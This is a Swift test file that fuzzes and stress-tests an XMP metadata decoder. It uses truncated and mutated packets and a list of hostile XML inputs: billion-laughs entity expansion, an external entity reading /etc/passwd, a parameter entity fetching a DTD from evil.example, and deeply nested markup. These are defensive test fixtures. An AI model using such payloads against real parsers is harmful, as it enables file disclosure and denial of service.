import Testing
@testable import PhotoCore

/// Truncated, mutated and hostile XMP packets: an error or a result, never a trap or a hang.
struct XMPHostileTests {
  static let full = XMPDecoderTests.packet(attributes: """
    exif:GPSLatitude="31,13.825N" exif:GPSLongitude="121,28.42E" tiff:Orientation="6"
    """, body: """
    <dc:title><rdf:Alt><rdf:li xml:lang="x-default">T &amp; &#x263A;</rdf:li></rdf:Alt></dc:title>
    <xmpMM:History><rdf:Seq><rdf:li stEvt:action="saved"/></rdf:Seq></xmpMM:History>
    <!-- comment --><photoshop:City><![CDATA[Shanghai]]></photoshop:City>
    """) + [UInt8](repeating: 0x20, count: 64) + [0, 0, 0]

  @Test func everyPrefixThrowsOrDecodes() {
    var decoded = 0
    for n in 0...Self.full.count {
      do {
        let c = try XMPDecoder.decode(Array(Self.full.prefix(n)))
        decoded += 1
        #expect(c.orientation == 6)
        #expect(c.gps?.latitude != nil)
      } catch {
        #expect(error.offset <= n, "prefix \(n): \(error)")
      }
    }
    // Complete from the end of </x:xmpmeta> (the xpacket PI whole or absent) through the padding.
    #expect(decoded >= 60)
  }

  @Test func mutatedPacketsNeverTrap() {
    var decoded = 0, refused = 0
    var rng = XMPSplitMix(seed: 0x5EED)
    let interesting: [UInt8] = Array("<>&;/=\"'#x!?[]-:\0".utf8) + [0xFF, 0xC3]
    for _ in 0..<1500 {
      let bytes = rng.mutate(Self.full, with: interesting)
      do {
        _ = try XMPDecoder.decode(bytes)
        decoded += 1
      } catch {
        refused += 1
        #expect(error.offset >= 0 && error.offset <= bytes.count, "an error points inside the packet")
      }
    }
    // Mutations of 1–4 bytes leave some packets well-formed and break others: both happen.
    #expect(decoded > 0 && refused > 0, "decoded \(decoded), refused \(refused)")
  }

  static let attacks: [(String, String)] = [
    ("billion laughs", """
      <?xml version="1.0"?><!DOCTYPE x:xmpmeta [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
      <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
      <x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
      <rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:format="&d;"/></rdf:RDF></x:xmpmeta>
      """),
    ("external entity", """
      <!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
      <x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
      <rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:format>&xxe;</dc:format></rdf:Description>
      </rdf:RDF></x:xmpmeta>
      """),
    ("parameter entity", """
      <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r>&e;</r>
      """),
    ("deep nesting", String(repeating: "<a>", count: 5000)),
    ("deep rdf", "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description>"
      + String(repeating: "<rdf:li><rdf:Seq>", count: 40) + String(repeating: "</rdf:Seq></rdf:li>", count: 40)
      + "</rdf:Description></rdf:RDF>"),
    ("unclosed comment", "<a><!--" + String(repeating: "-", count: 10_000)),
    ("huge char ref", "<a>&#x" + String(repeating: "F", count: 1000) + ";</a>"),
  ]

  @Test(arguments: attacks)
  func attacksAreRefusedQuickly(_ name: String, _ xml: String) {
    let result = Result { () throws(XMLSyntaxError) in try XMPDecoder.decode(Array(xml.utf8)) }
    switch result {
    case .success(let c):
      // Only the deep RDF is well-formed; it must have decoded nothing unbounded.
      #expect(name == "deep rdf", "\(name) decoded: \(c)")
    case .failure(let error):
      #expect(!error.description.isEmpty)
    }
  }

  @Test func manyElementsAreBoundedByTheLimit() {
    let many = "<r>" + String(repeating: "<e/>", count: 250_000) + "</r>"
    #expect(throws: XMLSyntaxError.self) { try XMPDecoder.decode(Array(many.utf8)) }
  }
}

/// A small deterministic generator for the mutation tests.
struct XMPSplitMix {
  var state: UInt64
  init(seed: UInt64) { state = seed }
  mutating func next() -> UInt64 {
    state &+= 0x9E37_79B9_7F4A_7C15
    var z = state
    z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
    z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
    return z ^ (z >> 31)
  }

  /// `bytes` with 1–4 random edits, each a byte set to one of `interesting`, a byte removed, or
  /// one of `interesting` inserted.
  mutating func mutate(_ bytes: [UInt8], with interesting: [UInt8]) -> [UInt8] {
    var bytes = bytes
    for _ in 0..<(1 + next() % 4) {
      let at = Int(next() % UInt64(bytes.count))
      switch next() % 3 {
      case 0: bytes[at] = interesting[Int(next() % UInt64(interesting.count))]
      case 1: bytes.remove(at: at)
      default: bytes.insert(interesting[Int(next() % UInt64(interesting.count))], at: at)
      }
    }
    return bytes
  }
}
